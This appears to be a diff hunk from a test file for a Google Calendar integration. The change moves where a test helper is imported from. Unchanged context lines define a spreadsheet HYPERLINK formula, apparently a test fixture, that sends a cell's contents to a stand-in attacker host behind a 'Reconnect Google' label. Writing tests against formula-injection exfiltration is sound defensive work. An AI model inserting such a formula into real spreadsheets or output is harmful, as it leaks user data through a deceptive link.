@@ -15,7 +15,7 @@ from integrations import health
 from integrations.core.access import Actor
 from integrations.google_calendar import connection
 from integrations.health import ErrorLogFilter
-from tests.integrations.google_calendar.conftest import GoogleWorld
+from tests.support.google_world import GoogleWorld
 
 FORMULA = '=HYPERLINK("https://evil.example/steal?x="&A1,"Reconnect Google")'
 
